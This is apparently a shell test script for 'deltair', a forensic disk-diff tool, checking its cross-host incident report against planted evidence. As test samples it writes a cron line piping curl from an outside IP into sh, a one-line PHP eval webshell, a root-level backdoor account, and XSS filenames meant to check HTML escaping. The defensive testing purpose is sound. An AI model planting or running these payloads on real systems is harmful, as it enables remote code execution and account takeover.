#!/bin/bash
# t6100: deltair report, the case view across hosts. Three incident images are made from one
# gold tree (mke2fs -d): the same implant (and a cron line YARA knows) on host-a and host-b,
# a change only host-c has (a backdoor account: a row change, and files with hostile names),
# and a log grown on all three. Each host's results folder is laid out as the worker writes
# it (events.jsonl.gz of `deltair scan`, summary.json, manifest.jsonl, COMPLETE last), with
# no worker involved; a fourth folder has no COMPLETE, a fifth a truncated gzip.
# Oracles: the scans' own events (read with Python, not deltair) for which host has which
# path, content hash, class counts and change times; sha256sum of the planted files; the
# yara tool for the rule match (also on a webshell that host-a and host-b hold inside an
# uploaded zip: the report names the member under its zip). report.html is rendered by Debian's headless chromium: it
# names every host and planted file, and no hostile name became markup.
. "$TOP/tests/cli/lib.sh"
need mke2fs debugfs gzip jq python3 yara chromium sha256sum

T='2021-06-01 12:00:00 UTC'
mkdir -p gold/etc gold/usr/bin gold/usr/lib gold/var/log gold/etc/cron.d gold/tmp
printf 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n' \
	> gold/etc/passwd
printf 'gold\n' > gold/etc/hostname
printf 'Jun  1 12:00:00 gold boot\n' > gold/var/log/syslog
cp /bin/true gold/usr/bin/tool
find gold -depth -exec touch -h -d "$T" {} +
mkext4 gold gold.img 16M
dt_ok baseline --no-progress -o gold.dtree gold.img

head -c 20000 /dev/urandom > implant.bin
printf '* * * * * root curl -s http://203.0.113.5/x | sh\n' > cron.txt
yara -d filepath=/etc/cron.d/sysupdate -d filename=sysupdate "$TOP/rules/reverse_shells.yar" cron.txt | grep -q '^download_pipe_shell ' ||
	die "the yara tool does not find download_pipe_shell in the cron line"
# A webshell inside a zip upload (issue 14): its match is on the member "site/shell.php".
mkdir -p upload/site && printf '<?php eval($_POST["c"]); ?>\n' > upload/site/shell.php
python3 -c 'import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w") as z: z.write("upload/site/shell.php", "site/shell.php")' upload.zip ||
	die "cannot make upload.zip"
yara "$TOP/rules/webshells.yar" upload/site/shell.php | grep -q '^php_webshell_request_exec ' ||
	die "the yara tool does not find php_webshell_request_exec in the member"
SHELL_SHA=$(sha256sum < upload/site/shell.php | cut -c1-64)

HOSTILE=(
	'<script>alert("pwn")'
	"<img src=x onerror=\"document.body.setAttribute('data-pwned','1')\">"
	"$(printf 'new\nline<b>bold')"
	"$(printf 'bad\377\376<i>name')"
)
for h in host-a host-b host-c; do
	cp -a gold "$h"
	printf 'Jun  1 13:00:00 %s sshd[1]: accepted\n' "$h" >> "$h/var/log/syslog"
	printf '%s\n' "$h" > "$h/etc/hostname"
done
for h in host-a host-b; do
	mkdir -p "$h/usr/lib/.cache"
	cp implant.bin "$h/usr/lib/.cache/kworker"
	chmod 0755 "$h/usr/lib/.cache/kworker"
	cp cron.txt "$h/etc/cron.d/sysupdate"
	mkdir -p "$h/var/www"
	cp upload.zip "$h/var/www/upload.zip"
done
printf 'sysadm:x:0:0::/root:/bin/bash\n' >> host-c/etc/passwd
for n in "${HOSTILE[@]}"; do
	printf 'x\n' > "host-c/tmp/$n"
done
mkdir -p case
for h in host-a host-b host-c host-d host-e; do
	[ -d "$h" ] || cp -a host-a "$h"
	mkext4 "$h" "$h.img" 16M
	# The account was added days later: a change time of its own for the histogram.
	if [ "$h" = host-c ]; then
		debugfs -w -R 'sif /etc/passwd ctime 20261101120000' host-c.img > /dev/null 2>&1 ||
			die "debugfs could not set a ctime"
	fi
	dt scan --no-progress --no-artifacts --rules "$TOP/rules" -b gold.dtree -o "$h.jsonl" \
		"$h.img"
	expect_rc 1 "scan of $h" || die "scan of $h failed"
	mkdir -p "case/$h"
	gzip -c < "$h.jsonl" > "case/$h/events.jsonl.gz"
	tail -n 1 "$h.jsonl" | jq -c --arg h "$h" '. + {job: {case: "IR-6100", evidence: ($h + ".img")}}' \
		> "case/$h/summary.json"
	: > "case/$h/manifest.jsonl"
	: > "case/$h/COMPLETE"
done
rm "case/host-d/COMPLETE"                       # a job still running, or killed
mkdir case/host-g                               # a job that failed, as the worker records it
printf '{"job":"j1","host":"w1","reason":"scan exited 3: <b>not an image</b>","receive_count":1}\n' \
	> case/host-g/FAILED
head -c 300 "host-e.jsonl" | gzip -c | head -c 200 > "case/host-e/events.jsonl.gz"

# The report, and what it says about the folders it did not count.
start=$(date +%s.%N)
dt report case
end=$(date +%s.%N)
expect_rc 8 "report of a case with an incomplete and an unreadable folder"
[ "$(cat out)" = "case/report.json
case/report.html" ] || fail "stdout should name the two files: $(cat out)"
grep -q "^deltair: report: 'host-d': incomplete: no COMPLETE marker" err ||
	fail "no note of host-d's missing COMPLETE: $(cat err)"
grep -q "^deltair: report: 'host-e': unreadable: events.jsonl.gz: " err ||
	fail "no note of host-e's damaged gzip: $(cat err)"
grep -q "^deltair: report: 'host-g': incomplete: no COMPLETE marker; the job failed: scan exited 3" err ||
	fail "no note of host-g's failed job: $(cat err)"
note "report of 6 folders: $(python3 -c "print('%.2f' % ($end - $start))") s"
R=case/report.json
jq -e . "$R" > /dev/null || die "report.json is not JSON"
jq -e '.totals | .hosts == 3 and .incomplete == 2 and .unreadable == 1' "$R" > /dev/null ||
	fail "totals: $(jq -c .totals "$R")"
jq -e '[.hosts[] | [.name, .status]] == [["host-a","complete"],["host-b","complete"],
	["host-c","complete"],["host-d","incomplete"],["host-e","unreadable"],
	["host-g","incomplete"]]' "$R" > /dev/null ||
	fail "hosts: $(jq -c '[.hosts[] | [.name, .status]]' "$R")"

# Hosts per path and per content hash, class counts and change times, from the events.
python3 - "$R" host-a host-b host-c << 'EOF' || fail "report.json disagrees with the events"
import base64, calendar, json, re, sys
rep = json.load(open(sys.argv[1]))
hosts = sys.argv[2:]
def pbytes(e):
    return base64.b64decode(e["path_bytes"]) if "path_bytes" in e else e["path"].encode()
def secs(t):
    m = re.fullmatch(r"(\d{4})-(\d\d)-(\d\d)T(\d\d):(\d\d):(\d\d)\.\d{9}Z", t)
    return calendar.timegm(tuple(int(x) for x in m.groups()) + (0, 0, 0))
paths, hashes, bad = {}, {}, []
for h in hosts:
    counts, times = {}, []
    for line in open(h + ".jsonl"):
        e = json.loads(line)
        if e["event"] != "file":
            continue
        paths.setdefault((e["fs"], pbytes(e)), []).append((h, e["change"], e.get("sha256")))
        counts[e["change"]] = counts.get(e["change"], 0) + 1
        if e["change"] != "deleted" and e.get("sha256"):
            hashes.setdefault(e["sha256"], set()).add(h)
        if e["change"] != "deleted":
            times.append(secs(e["ctime"] or e["mtime"]))
    rh = [x for x in rep["hosts"] if x["name"] == h][0]
    if {k: v for k, v in rh["counts"].items() if v} != counts:
        bad.append("%s counts %s, events say %s" % (h, rh["counts"], counts))
    # 24 bins over [first, last]: bin (t - first) * 24 // (last - first + 1).
    t, lo, hi = rh["times"], min(times), max(times)
    bins = [0] * 24
    for x in times:
        bins[(x - lo) * 24 // (hi - lo + 1)] += 1
    if (secs(t["first"][:19] + ".000000000Z"), secs(t["last"][:19] + ".000000000Z"),
            t["changes"], t["bins"]) != (lo, hi, len(times), bins):
        bad.append("%s times %s, events say %s..%s %s" % (h, t, lo, hi, bins))
got = {}
for p in rep["paths"]:
    key = (p["fs"], base64.b64decode(p["path_bytes"]) if "path_bytes" in p else p["path"].encode())
    got[key] = [(o["host"], o["change"], o["sha256"]) for o in p["on"]]
    if p["hosts"] != len(p["on"]) or abs(p["rarity"] - p["hosts"] / 3) > 1e-9:
        bad.append("%r: hosts %d, rarity %s" % (key, p["hosts"], p["rarity"]))
if got != paths:
    for k in sorted(set(got) | set(paths)):
        if got.get(k) != paths.get(k):
            bad.append("%r: report %s, events %s" % (k, got.get(k), paths.get(k)))
n = [p["hosts"] for p in rep["paths"]]
if n != sorted(n):
    bad.append("paths not rarest first: %s" % n)
gh = {x["sha256"]: set(x["on"]) for x in rep["hashes"]}
if gh != hashes or [x["hosts"] for x in rep["hashes"]] != sorted(len(v) for v in gh.values()):
    bad.append("hashes: report %s, events %s" % (gh, hashes))
for b in bad:
    print("  " + b)
sys.exit(1 if bad else 0)
EOF

IMPLANT=$(sha256sum < implant.bin | cut -c1-64)
jq -e --arg s "$IMPLANT" '[.paths[] | select(.path == "/usr/lib/.cache/kworker")] | length == 1 and
	.[0].hosts == 2 and ([.[0].on[] | .host] == ["host-a","host-b"]) and
	([.[0].on[] | .sha256] == [$s, $s]) and (.[0].changes == ["added"])' "$R" > /dev/null ||
	fail "the implant is not one line with host-a and host-b: $(jq -c '.paths[] | select(.path == "/usr/lib/.cache/kworker")' "$R")"
jq -e --arg s "$IMPLANT" '.hashes[] | select(.sha256 == $s) | .hosts == 2' "$R" > /dev/null ||
	fail "the implant's hash is not on 2 hosts"
jq -e '.paths[0].hosts == 1 and ([.paths[] | select(.hosts == 1) | .on[0].host] | unique == ["host-c"])' \
	"$R" > /dev/null || fail "the rarest paths should be host-c's alone: $(jq -c '[.paths[] | [.path, .hosts]]' "$R")"
jq -e '.paths[] | select(.path == "/etc/passwd") | .hosts == 1 and .on[0].host == "host-c" and
	.on[0].change == "appended"' "$R" > /dev/null || fail "/etc/passwd should be host-c's alone"
jq -e '.paths[-1].path == "/var/log/syslog" and .paths[-1].hosts == 3' "$R" > /dev/null ||
	fail "the log grown on every host should come last, on 3: $(jq -c '.paths[-1]' "$R")"
for h in host-a host-b; do
	jq -e --arg h "$h" '.hosts[] | select(.name == $h) | .yara_matches >= 1 and
		any(.yara[]; .rule == "download_pipe_shell" and .path == "/etc/cron.d/sysupdate")' \
		"$R" > /dev/null || fail "$h: no download_pipe_shell match on /etc/cron.d/sysupdate"
done
# The member's match is under its zip: in the host's list with "member" and the member's
# SHA-256, and counted for the zip's path (as a match in a member) on both hosts.
for h in host-a host-b; do
	jq -e --arg h "$h" --arg s "$SHELL_SHA" '.hosts[] | select(.name == $h) |
		any(.yara[]; .rule == "php_webshell_request_exec" and .path == "/var/www/upload.zip" and
			.member == "site/shell.php" and .sha256 == $s)' "$R" > /dev/null ||
		fail "$h: no php_webshell_request_exec match on /var/www/upload.zip!site/shell.php: $(jq -c --arg h "$h" '.hosts[] | select(.name == $h) | .yara' "$R")"
done
jq -e '.paths[] | select(.path == "/var/www/upload.zip") | .yara_matches >= 2 and
	([.on[] | .host] == ["host-a","host-b"]) and all(.on[]; .yara_members >= 1 and .yara >= .yara_members)' \
	"$R" > /dev/null || fail "the zip's path does not count its member's match: $(jq -c '.paths[] | select(.path == "/var/www/upload.zip")' "$R")"
jq -e '[.hosts[] | select(.status == "complete") | .yara[] | select(.member) | .path] | unique == ["/var/www/upload.zip"]' \
	"$R" > /dev/null || fail "member matches elsewhere than the zip"
jq -e '[.paths[] | .on[] | select(.yara_members > 0)] | length == 2' "$R" > /dev/null ||
	fail "paths other than the zip count matches in members"
jq -e '.hosts[] | select(.name == "host-c") | .yara_matches == 0 and .rows.added >= 1 and
	any(.row_changes[]; .table == "users" and .action == "added" and .columns.username == "sysadm")' \
	"$R" > /dev/null || fail "host-c: the sysadm account should be a row change, with no YARA match"
jq -e '.hosts[] | select(.name == "host-a") | .summary.job.case == "IR-6100"' "$R" > /dev/null ||
	fail "host-a's summary.json (job fields) is not in the report"
for n in "${HOSTILE[@]}"; do
	python3 -c '
import base64, json, sys
rep = json.load(open(sys.argv[1]))
want = b"/tmp/" + sys.argv[2].encode("utf-8", "surrogateescape")
sys.exit(0 if any(p.get("path_bytes") and base64.b64decode(p["path_bytes"]) == want or
                  p["path"].encode() == want for p in rep["paths"]) else 1)' "$R" "$n" ||
		fail "report.json lacks the exact path $(printf '%q' "$n")"
done

# The page, in a real browser: it renders, names every host and every planted file, and no
# name from the evidence became an element or an attribute.
export HOME=$PWD
timeout 60 chromium --headless --no-sandbox --disable-gpu --dump-dom \
	"file://$PWD/case/report.html" > dom.html 2> chromium.err || true
[ -s dom.html ] || die "chromium rendered nothing: $(tail -5 chromium.err)"
python3 - dom.html "${HOSTILE[@]}" << 'EOF' || fail "report.html, as chromium rendered it"
import html.parser, sys
allowed = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "b", "span",
           "code", "table", "tbody", "tr", "th", "td", "svg", "text", "rect", "line", "div",
           "a", "ul", "li", "br"}
class P(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attrs, self.text = set(), set(), []
    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attrs.update(a for a, _ in attrs)
    def handle_data(self, d):
        self.text.append(d)
p = P()
p.feed(open(sys.argv[1], encoding="utf-8", errors="replace").read())
text = "".join(p.text)
bad = []
if p.tags - allowed:
    bad.append("elements that the report does not write: %s" % sorted(p.tags - allowed))
injected = sorted(a for a in p.attrs if a.startswith("on") or a.startswith("data-"))
if injected:
    bad.append("injected attributes: %s" % injected)
want = ["host-a", "host-b", "host-c", "host-d", "host-e", "/usr/lib/.cache/kworker",
        "/etc/cron.d/sysupdate", "/etc/passwd", "/var/log/syslog", "/etc/hostname",
        "download_pipe_shell", "sysadm", "no COMPLETE marker", "/var/www/upload.zip",
        "site/shell.php", "php_webshell_request_exec", "in members"]
for n in sys.argv[2:]:
    shown = "".join("\\x%02x" % ord(c) if c < " " else c for c in n)
    shown = shown.replace("\udcff", "\\xff").replace("\udcfe", "\\xfe")
    want.append("/tmp/" + shown)
for w in want:
    if w not in text:
        bad.append("the page does not show %r" % w)
if "<svg" not in open(sys.argv[1], encoding="utf-8", errors="replace").read():
    bad.append("no chart")
for b in bad:
    print("  " + b)
sys.exit(1 if bad else 0)
EOF

# Run again: its own files are replaced; a file that is not a report is not.
dt report -o . case
expect_rc 8 "report into another folder"
[ -s report.json ] && [ -s report.html ] || fail "-o . wrote nothing here"
echo '{"mine": true}' > case/report.json
dt report case
expect_rc 2 "report over a foreign report.json"
expect_err_line report
[ "$(cat case/report.json)" = '{"mine": true}' ] || fail "a foreign report.json was replaced"
dt report --force case
expect_rc 8 "report --force"
# The same from the real worker's results (its COMPLETE, summary.json, extracted/): one host.
dt submit --queue spool:sp --case wk --baseline "$PWD/gold.dtree" --output "$PWD/res" \
	--rules "$TOP/rules" --no-artifacts "$PWD/host-a.img"
expect_rc 0 "submit" || die "submit failed"
dt worker --queue spool:sp --once
expect_rc 0 "worker --once" || die "worker failed"
dt report res/wk
expect_rc 0 "report of the worker's case"
jq -e '.totals.hosts == 1 and .hosts[0].name == "host-a.img" and .hosts[0].yara_matches >= 1' \
	res/wk/report.json > /dev/null || fail "the worker's result: $(jq -c .totals res/wk/report.json)"
jq -c '[.paths[] | {fs, path, c: [.on[] | .change, .sha256]}] | sort_by(.fs, .path)' \
	res/wk/report.json > wk.paths
jq -c '[.paths[] | select(any(.on[]; .host == "host-a")) |
	{fs, path, c: [.on[] | select(.host == "host-a") | .change, .sha256]}] | sort_by(.fs, .path)' \
	"$R" > a.paths
[ "$(jq length a.paths)" -ge 5 ] || fail "host-a should have 5 changed paths or more: $(cat a.paths)"
cmp -s wk.paths a.paths || fail "the worker's host-a differs from the scan's: $(diff wk.paths a.paths | head -4)"

dt report nowhere
expect_rc 4 "report of a missing folder"
expect_err_line report
grep -q "cannot open the case folder 'nowhere'" err || fail "report nowhere: $(cat err)"
dt report ''
expect_rc 2 "report of an empty name"
[ ! -e /report.json ] || fail "an empty CASE_DIR wrote /report.json"
# A FIFO in place of a host's events is unreadable, not a hang.
mkdir case/host-f && mkfifo case/host-f/events.jsonl.gz && : > case/host-f/COMPLETE
dt report case
expect_rc 8 "report with a FIFO for events"
grep -q "^deltair: report: 'host-f': unreadable: events.jsonl.gz is not a regular file" err ||
	fail "no note of host-f's FIFO: $(cat err)"
t_done
